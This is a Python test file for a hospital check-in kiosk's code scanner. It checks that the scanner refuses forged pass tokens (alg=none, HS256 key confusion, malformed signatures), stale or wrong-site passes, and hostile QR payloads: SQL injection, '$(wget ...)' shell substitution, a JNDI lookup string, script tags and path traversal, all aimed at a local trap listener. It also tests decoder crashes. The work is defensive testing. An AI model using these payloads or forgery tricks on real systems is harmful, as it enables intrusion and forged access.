"""Q1-Q3, Q5, Q6: whatever is held up to the camera, and whatever befalls the program that looks at it. Pictures are made
(tests/journeys/codes.py) and played as a camera, through the real foyer-decode."""
import base64
import hashlib
import hmac
import json
import os
import random
import shutil
import signal
import socket
import subprocess
import threading
import time

import codes
from bench import DONE, SOURCE, Skipped, check, never_showed, no_text_step, no_write, text_step

SHARED = SOURCE.parent / "shared" / "data" / "codes" / "zxing"

# enum code_kind of app/session/claim.h, in its order
ACCEPTED, UNREADABLE, OTHER_SITE, OTHER_DAY, _, WEB, CONTACT, _, PRODUCT, FOREIGN, UNKNOWN = range(11)
# words of product.md and national-services 8.3, as words.h spells them
NEED = " We need the code from your appointment letter or text message."
SAYS = {
    UNREADABLE: "We could not read this code. You can check in with your name and date of birth.",
    OTHER_SITE: "This code is for another site. Scan the code for your appointment here, or go to reception.",
    OTHER_DAY: "This code is for another day. Scan the code for today's appointment, or go to reception.",
    WEB: "This is a web address." + NEED, CONTACT: "This code holds contact details." + NEED,
    PRODUCT: "This is a product code." + NEED, FOREIGN: "This code is for something else." + NEED,
    UNKNOWN: "We do not know this code." + NEED,
}
LOOKS = "Use the code in your text message"
WAITED = "We cannot read that code."
OFFERED = {"match__scan_offered": "on", "scan__wait_s": 60}
TYPED = ['tap "Enter my details"', "expect screen birth"]
TO_ARRIVAL = ["type 27031985", 'tap "Continue"', 'tap "S"', 'tap "Continue"', "expect screen confirm", 'tap "Yes"', *DONE,
              "expect arrivals 1"]
# The picture of a child process whose name is cut by the kernel.
DECODER = "foyer-decode"


def to_scan():
    """The scanner's thread may say a moment after the first page that there is a camera."""
    return ["expect screen start", "wait 300ms really", 'tap "Check in"', 'tap "Me"', 'tap "Yes, scan it"', "expect screen scan"]


# ---- pictures

class Pictures(codes.Codes):
    """Codes of kinds that no journey needs, and pictures without one, beside those of codes.py."""
    OTHERS = {"data-matrix": "71", "aztec": "92", "pdf417": "55", "code39": "8", "micro-qr": "97", "maxicode": "57",
              "dotcode": "115", "interleaved-2-of-5": "3", "codabar": "18", "code93": "25", "databar": "31"}
    SAID = {"interleaved-2-of-5": "0123456789", "codabar": "A31117013206375A", "databar": "[01]12345678901231"}

    def __init__(self, bench):
        super().__init__(bench.build, bench.out / "codes", "2026-12-08")

    def path(self, name):
        return self.folder / f"{name}.png"

    def passes(self, *others):
        """Keys of the configuration: our issuer, and others as (name, iss)."""
        keys = {"pass__issuers__pas__iss": codes.ISSUER, "pass__issuers__pas__keys_file": str(self.folder / "keys.json")}
        for name, iss in others:
            keys[f"pass__issuers__{name}__iss"] = iss
            keys[f"pass__issuers__{name}__keys_file"] = str(self.folder / f"{name}.json")
        return keys

    def zint(self, name, *options):
        done = subprocess.run(["zint", *options, "--quietzones", "-o", f"{name}.png"], cwd=self.folder,
                              capture_output=True, text=True, check=False)
        check(self.path(name).exists(), f"zint draws no {name}: {done.stderr}{done.stdout}")

    def draw_other(self, name):
        self.zint(name, "-b", self.OTHERS[name], "--notext", "--scale=3", "-d", self.SAID.get(name, "A1004417"))

    def draw_largest(self, name, data):
        """Version 40 at its full: too many modules for codes.py."""
        (self.folder / "largest.txt").write_bytes(data)
        self.zint(name, "-b", "58", "--binary", "--vers=40", "--secure=1", "--scale=2", "-i", "largest.txt")

    def grey(self, name, pixel, width=960, height=540):
        codes.write_png(self.path(name), [bytes(pixel(x, y) for x in range(width)) for y in range(height)])


def hold(picture, says):
    """Held up, taken away: its words, and another code can be held up."""
    return [f"camera {picture}", text_step(says), "camera nothing", "wait 300ms really", 'tap "Try again"', no_text_step(says), text_step(LOOKS)]


def hold_unread(picture):
    """Long enough for every step of the pipeline; not a word comes of it."""
    return [f"camera {picture}", "wait 800ms really", text_step(LOOKS), no_text_step(WAITED), "expect decoder running"]


def asked_about_patients(site, before):
    """No more was asked than what the kiosk asks by itself when it starts, before anybody stands there."""
    after = [one for one in site.requests() if one[1].startswith(("Appointment", "Patient", "Encounter"))]
    check(len(after) == before, f"a code was looked up: {after[before:]}")
    no_write(site)


def play_codes(bench, state, steps, **more):
    """One session at S2a that ends by typing after all; nothing is looked up before that. Returns the run."""
    with bench.site() as site:
        bench.play(site, ["expect screen start"], state=f"{state}-before", camera=True, **OFFERED, **more)
        before = len([one for one in site.requests() if one[1].startswith(("Appointment", "Patient", "Encounter"))])
        site.ask("reset", {})
        run = bench.play(site, [*to_scan(), *steps, 'tap "Start again"', "expect screen start"], state=state, camera=True,
                         **OFFERED, **more)
        asked_about_patients(site, before)
        again = bench.play(site, [*to_scan(), *TYPED, *TO_ARRIVAL], state=f"{state}-after", camera=True, **OFFERED, **more)
        check(CONFIRMED_STATE in again.states, "nobody can check in any more")
    never_showed(run, "confirm", "finding", "not-working", "refused")
    return run


CONFIRMED_STATE = 10


def scanned(run, wanted):
    kinds = run.logged("LOG_SCAN")
    check(kinds == wanted, f"codes were sorted as {kinds}, not as {wanted}")


# ---- Q1

RANDOM_SEED = 20261208
THROUGH_KIOSK = 44


def q1_stream(bench):
    # Only works, while most other tests wait: it takes the time that they leave.
    done = subprocess.run(["nice", "-n", "5", str(bench.build / "foyer-random-codes"), str(RANDOM_SEED)],
                          capture_output=True, text=True, check=False, timeout=560)
    print(done.stdout, end="")
    last = dict(pair.split("=") for pair in (done.stdout.splitlines() or [""])[-1].split() if "=" in pair)
    check(done.returncode == 0, f"random codes: {done.stdout[-2000:]}{done.stderr[-2000:]}")
    check(int(last["read"]) * 2 > int(last["codes"]), "most of the codes were not read: nothing was tried")


def random_codes(pictures):
    """(picture, what it must be sorted as): half of them bytes, half of them text of nobody's pattern."""
    chance = random.Random(RANDOM_SEED)
    made = []
    for i in range(THROUGH_KIOSK):
        name, count = f"random-{i}", chance.randint(1, 400)
        if i % 2:
            data, kind = b"~" + bytes(chance.randint(32, 126) for _ in range(count)), UNKNOWN
        else:
            data, kind = bytes(chance.randint(0, 255) for _ in range(count)) + b"\xff", UNREADABLE
        pictures.draw(name, "qr", data)
        made.append((pictures.path(name), kind))
    return made


def without_code(pictures):
    chance = random.Random(RANDOM_SEED)
    pictures.grey("noise", lambda x, y: chance.getrandbits(8))
    pictures.grey("checks", lambda x, y: 255 * ((x // 7 + y // 7) % 2))
    pictures.grey("stripes", lambda x, y: 255 * (x // 3 % 2))
    pictures.grey("black", lambda x, y: 0)
    eye = [0b1111111, 0b1000001, 0b1011101, 0b1011101, 0b1011101, 0b1000001, 0b1111111]  # a finder pattern, everywhere

    def eyes(x, y):
        column, row = x // 5 % 9, y // 5 % 9
        return 0 if column < 7 and row < 7 and eye[row] >> column & 1 else 255
    pictures.grey("eyes", eyes)
    names = ["noise", "checks", "stripes", "black", "eyes"]
    photographs = sorted((SHARED / "falsepositives").glob("*.png"))[:8] + sorted((SHARED / "falsepositives-2").glob("*.png"))[:8]
    return [pictures.path(name) for name in names] + photographs, bool(photographs)


def is_code(picture, what):
    """Whoever reads such codes reads this picture."""
    if shutil.which("ZXingReader") is None:
        return
    done = subprocess.run(["ZXingReader", str(picture)], capture_output=True, text=True, check=False)
    check("Format:" in done.stdout and "None" not in done.stdout, f"{picture.name} is no {what}: {done.stdout}")


def q1(bench):
    """The capped, the partial, the random, the other kinds and no code at all, between two looks at a code that is known
    to be read: the decoder that reads the last one is the first that was started."""
    q1_stream(bench)
    pictures = Pictures(bench)
    pictures.draw_largest("largest", b"A" * 2953)
    pictures.draw_largest("largest-bytes", bytes(range(256)) * 11 + bytes(137))
    pictures.draw("part", "qr-part", b"A1004417")
    pictures.draw("product", "ean13", b"501234567890")
    for name in pictures.OTHERS:
        pictures.draw_other(name)
    for name in ("data-matrix", "aztec", "pdf417", "code39"):
        is_code(pictures.path(name), name)
    empty, photographs = without_code(pictures)
    unread = [pictures.path("part"), *(pictures.path(name) for name in pictures.OTHERS), *empty]
    # Of a code that is too long nothing is kept: another one within 2 s would be the same scan.
    made = [(pictures.path("largest"), UNREADABLE), (pictures.path("product"), PRODUCT), *random_codes(pictures),
            (pictures.path("largest-bytes"), UNREADABLE)]
    check(len(unread) <= len(made), "each picture without a code needs a code after it")
    steps, wanted = [], [kind for _, kind in made]
    for i, (picture, kind) in enumerate(made):
        steps += hold_unread(unread[i]) if i < len(unread) else []
        steps += hold(picture, SAYS[kind])
    run = play_codes(bench, "held", [*steps, "expect decoder-starts 1"], **pictures.passes())
    scanned(run, wanted)
    check(not run.logged("LOG_DECODER_ENDED"), "the decoder ended")
    print(f"through_kiosk={len(wanted)} unread={len(unread)}")
    if not photographs:
        raise Skipped("needs ../shared/data/codes for photographs without a code; all else of the row holds")


# ---- Q2

def packed(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def unpacked(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def header(**members):
    return packed(json.dumps(members, separators=(",", ":")).encode())


def der(signature):
    """r and s as ASN.1, which is what libraries give by themselves."""
    def number(raw):
        raw = raw.lstrip(b"\0") or b"\0"
        raw = b"\0" + raw if raw[0] & 0x80 else raw
        return b"\x02" + bytes([len(raw)]) + raw
    both = number(signature[:32]) + number(signature[32:])
    return b"\x30" + bytes([len(both)]) + both


ORDER = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551  # of P-256


def forgeries(pictures, token):
    """name -> token: each with a payload that the issuer did sign."""
    head, body, tail = token.split(".")
    signature, kid = unpacked(tail), json.loads(unpacked(head))["kid"]
    key = json.loads((pictures.folder / "keys.json").read_text(encoding="ascii"))["keys"][0]
    point = unpacked(key["x"]) + unpacked(key["y"])
    pem = subprocess.run(["openssl", "ec", "-in", str(pictures.folder / "ours.pem"), "-pubout"], check=True,
                         capture_output=True).stdout
    typ = "foyer-pass+jwt"
    none, hs = header(alg="none", kid=kid, typ=typ), header(alg="HS256", kid=kid, typ=typ)

    def macs():
        for name, secret in (("pem", pem), ("point", point), ("jwk", json.dumps(key, separators=(",", ":")).encode())):
            mac = hmac.new(secret, f"{hs}.{body}".encode(), hashlib.sha256).digest()
            yield f"hs256-{name}", f"{hs}.{body}.{packed(mac)}"
            yield f"hs256-{name}-64", f"{hs}.{body}.{packed(mac + bytes(32))}"
    signatures = {"zero": bytes(64), "r-zero": bytes(32) + signature[32:], "s-zero": signature[:32] + bytes(32),
                  "order": ORDER.to_bytes(32, "big") * 2, "63": signature[:63], "65": signature + b"\0",
                  "65-before": b"\0" + signature, "der": der(signature), "other": signature[32:] + signature[:32]}
    return {"none": f"{none}.{body}.", "none-signed": f"{none}.{body}.{tail}",
            "none-zero": f"{none}.{body}.{packed(bytes(64))}", "no-signature": f"{head}.{body}.", **dict(macs()),
            **{f"signature-{name}": f"{head}.{body}.{packed(each)}" for name, each in signatures.items()}}


def q2(bench):
    pictures = Pictures(bench)
    pictures.add("genuine", "pass", "")
    made = forgeries(pictures, pictures.texts["genuine"])
    steps = []
    for name, token in made.items():
        pictures.draw(name, "qr", token.encode())
        steps += hold(pictures.path(name), SAYS[UNREADABLE])
    # The same keys let the one through that the issuer did make: so the others were refused for what is wrong with them.
    steps += [f"camera {pictures.path('genuine')}", "expect screen birth"]
    run = play_codes(bench, "forged", steps, **pictures.passes())
    scanned(run, [*[UNREADABLE] * len(made), ACCEPTED])
    print(f"forged={len(made)}")


# ---- Q3

def q3(bench):
    pictures = Pictures(bench)
    for name, asked in {
            "expired": "day=2026-12-07", "not-yet": "day=2026-12-09",
            "expired-just": "from=2026-12-08T00:00:00Z until=2026-12-08T09:02:00Z",
            "not-yet-just": "from=2026-12-08T09:09:00Z until=2026-12-08T18:00:00Z",
            "other-site": "aud=X9Z02", "other-site-expired": "aud=X9Z02 day=2026-12-07",
            "tenant": "with=stranger", "forger": "with=forger", "unheard": "iss=nobody.example",
            "genuine": "", "their-own": "with=stranger iss=other.example"}.items():
        pictures.add(name, "pass", asked)
    wanted = {"expired": OTHER_DAY, "not-yet": OTHER_DAY, "expired-just": OTHER_DAY, "not-yet-just": OTHER_DAY,
              "other-site": OTHER_SITE, "other-site-expired": OTHER_SITE,
              # another tenant's key under our issuer's name, ours under nobody's: not a word more than for a forgery
              "tenant": UNREADABLE, "forger": UNREADABLE, "unheard": UNREADABLE}
    steps = [step for name, kind in wanted.items() for step in hold(pictures.path(name), SAYS[kind])]
    genuine = [step for name in ("genuine", "their-own")
               for step in (f"camera {pictures.path(name)}", "expect screen birth", "camera nothing", 'tap "Back"',
                            'tap "Yes, scan it"', text_step(LOOKS))]
    run = play_codes(bench, "refused", [*steps, *genuine], **pictures.passes(("stranger", "other.example")))
    scanned(run, [*wanted.values(), ACCEPTED, ACCEPTED])


# ---- Q5

class Trap:
    """Listens where a code points. Nobody may come."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.came = 0
        self.thread = threading.Thread(target=self._wait, daemon=True)
        self.thread.start()

    def _wait(self):
        while True:
            try:
                self.socket.accept()[0].close()
            except OSError:
                return
            self.came += 1

    def holds(self):
        """Nobody came so far, and whoever comes is noticed."""
        check(self.came == 0, f"a code was followed {self.came} times")
        socket.create_connection(("127.0.0.1", self.port)).close()
        end = time.monotonic() + 5
        while self.came == 0 and time.monotonic() < end:
            time.sleep(0.01)
        check(self.came == 1, "the trap does not notice who comes")
        self.socket.close()


def payloads(port):
    """name -> (how it is drawn, what it says, what it is sorted as). Each has a word of its own that is looked for."""
    trap = f"127.0.0.1:{port}"
    return {
        "url": ("qr", f"http://{trap}/wurl?patient=9990000026", WEB),
        "url-capitals": ("qr", f"HTTP://{trap}/WCAPS", WEB),
        "url-secret": ("qr", f"https://wuser:wpass@{trap}/wsecret", WEB),
        "url-scheme": ("qr", f"foyer-x://{trap}/wscheme", WEB),
        "url-ftp": ("qr", f"ftp://{trap}/wftp", WEB),
        "url-bars": ("code128", "http://[::1]/wbar", WEB),
        "file": ("qr", "file:///etc/wfile", WEB),
        "wifi": ("qr", "WIFI:T:WPA;S:wnetwork;P:wpassword;;", FOREIGN),
        "vcard": ("qr", f"BEGIN:VCARD\\nVERSION:3.0\\nN:Wcard;Sarah\\nURL:http://{trap}/wvcard\\nEND:VCARD", CONTACT),
        "mecard": ("qr", f"MECARD:N:Wmecard,Sarah;URL:http://{trap}/wmecard;;", CONTACT),
        "mail": ("qr", "mailto:wmail@example.org", CONTACT),
        "telephone": ("qr", "tel:07700900987", CONTACT),
        "gs1": ("gs1-qr", "[01]09506000134352[21]WSERIAL", PRODUCT),
        "gs1-bars": ("gs1-128", "[21]WBARSGS1", PRODUCT),
        "sql": ("qr", "'; DROP TABLE wtable; --", UNKNOWN),
        "sql-or": ("qr", "NF00020013' OR 'wor'='wor", UNKNOWN),
        "search": ("qr", "NF00020013&_revinclude=*&wsearch=1", UNKNOWN),
        "shell": ("qr", f"$(wget http://{trap}/wshell)", UNKNOWN),
        "format": ("qr", "%s%s%n wformat {0} ${{jndi:ldap://{trap}/wjndi}}".replace("{trap}", trap), UNKNOWN),
        "script": ("qr", f"<script src=//{trap}/wscript></script>", FOREIGN),
        "json": ("qr", '{"birth":"1985-03-27","wjson":1}', FOREIGN),
        "javascript": ("qr", f"javascript:fetch('//{trap}/wjs')", UNKNOWN),
        "path": ("qr", "../../Patient/wpath", UNKNOWN),
        "escape": ("qr", "\\x1b]0;wescape\\x07", UNREADABLE),
        "lines": ("qr", "wline\\r\\nHost: wheader", UNREADABLE),
    }


def words_of(text):
    """What of a code may be found nowhere: its own words."""
    return {word for word in "".join(each if each.isalnum() else " " for each in text).split()
            if word.lower().startswith("w") and len(word) > 3 and word.lower() not in ("wget", "wifi")}


def kept_nowhere(bench, state, run, words):
    folder = bench.out / state
    files = [path for path in folder.rglob("*") if path.is_file()]
    check(any(path.name == "journal.db" for path in files) and run.log, "there is no log, or no journal")
    for name, data in [("the log", run.log.encode()), ("the errors", run.stderr.encode()),
                       *[(path.name, path.read_bytes()) for path in files]]:
        for word in words:
            check(word.lower().encode() not in data.lower(), f"{word} of a code is in {name}")


def q5(bench):
    trap = Trap()
    pictures = Pictures(bench)
    made = payloads(trap.port)
    steps, words = [], set()
    for name, (kind, text, sorted_as) in made.items():
        pictures.add(name, kind, text)
        hidden = sorted(words_of(text))
        words |= set(hidden)
        picture, *rest = hold(pictures.path(name), SAYS[sorted_as])
        steps += [picture, rest[0], *[no_text_step(word) for word in hidden], *rest[1:]]
    check(len(words) >= len(made), f"a code without a word of its own: {sorted(words)}")
    patterns = {"scan__pattern__letter__prefix": "NF", "scan__pattern__letter__shortest": 10,
                "scan__pattern__letter__longest": 10, "scan__pattern__letter__of": "patient",
                "scan__pattern__letter__system": "https://northfield.example/Id/hospital-number", "scan__nhs_number": "on"}
    run = play_codes(bench, "hostile", steps, **patterns)
    scanned(run, [sorted_as for _, _, sorted_as in made.values()])
    kept_nowhere(bench, "hostile", run, words)
    trap.holds()
    print(f"payloads={len(made)}")


# ---- Q6

def children_of(pid):
    try:
        with open(f"/proc/{pid}/task/{pid}/children", encoding="ascii") as file:
            found = [int(each) for each in file.read().split()]
        tasks = os.listdir(f"/proc/{pid}/task")
    except OSError:
        return []
    for task in tasks:  # a child belongs to the thread that started it
        try:
            with open(f"/proc/{pid}/task/{task}/children", encoding="ascii") as file:
                found += [int(each) for each in file.read().split()]
        except OSError:
            continue
    return list(set(found))


def is_decoder(pid):
    try:
        with open(f"/proc/{pid}/comm", encoding="ascii") as file:
            return file.read().strip() == DECODER
    except OSError:
        return False


class Blows:
    """Hits every decoder that the kiosk starts, from the moment a picture is there until another is."""

    def __init__(self, number, begins, ends):
        self.number, self.begins, self.ends = number, begins, ends
        self.hit = {}

    def watch(self, process, _):
        while process.poll() is None and not self.ends.exists():
            for pid in children_of(process.pid) if self.begins.exists() else []:
                if pid not in self.hit and is_decoder(pid):
                    os.kill(pid, self.number)
                    self.hit[pid] = time.monotonic()
            time.sleep(0.002)


def q6_once(bench, pictures):
    """Killed, and hung: started again by itself, and the next code is read. While it hangs, taps get their pages."""
    steps = [*to_scan(), "expect decoder-starts 1", "decoder kill", "expect decoder-starts 2", "expect decoder running",
             *hold(pictures.path("first"), SAYS[UNKNOWN]),
             "decoder stop", 'tap "Get help"', "expect screen help", 'tap "Keep going"', "expect screen scan"]
    with bench.site() as site:
        run = bench.play(site, [*steps, *hold(pictures.path("second"), SAYS[UNKNOWN]),
                                "decoder stop", *TYPED, *TO_ARRIVAL], state="once", camera=True, **OFFERED, **pictures.passes())
        scanned(run, [UNKNOWN, UNKNOWN])
        ended = run.logged("LOG_DECODER_ENDED")
        check(ended and set(ended) == {-signal.SIGKILL}, f"the decoder ended with {ended}")
        never_showed(run, "not-working", "refused")
        check(site.arrivals_of("A1004417")[0] == 1, "the arrival by typing is missing")


def q6_again_and_again(bench, pictures, name, number):
    """Whenever it is started it is hit: the kiosk gives it up, the date of birth is asked for without a tap, and the patient
    arrives. Nobody is led through it again before it was seen to answer."""
    begins, ends = bench.out / f"{name}-begins.png", bench.out / f"{name}-ends.png"
    blows = Blows(number, begins, ends)
    with bench.site() as site:
        run = bench.play(site, [*to_scan(), f"shot {begins.name}", "expect screen birth", *TO_ARRIVAL, f"shot {ends.name}",
                                'tap "Finish"', 'tap "Check in"', 'tap "Me"', "expect screen birth"],
                         state=name, meanwhile=blows.watch, camera=True, **OFFERED, **pictures.passes())
        scanned(run, [])
    ended = run.logged("LOG_DECODER_ENDED")
    # Three ends, or as good as 2 s without a word: in them it hangs twice.
    least = 3 if number == signal.SIGKILL else 1
    check(len(ended) >= least and len(blows.hit) >= max(least, 2), f"it was hit {len(blows.hit)} times and ended {len(ended)} times")
    times = sorted(blows.hit.values())
    print(f"{name}: hits={len(times)} first_to_last_hit_ms={(times[-1] - times[0]) * 1000:.0f}")
    never_showed(run, "not-working", "refused")


def q6(bench):
    pictures = Pictures(bench)
    for name in ("first", "second"):
        pictures.draw(name, "qr", f"~{name}".encode())
    q6_once(bench, pictures)
    q6_again_and_again(bench, pictures, "killed", signal.SIGKILL)
    q6_again_and_again(bench, pictures, "hung", signal.SIGSTOP)


ROWS = {"Q1": q1, "Q2": q2, "Q3": q3, "Q5": q5, "Q6": q6}
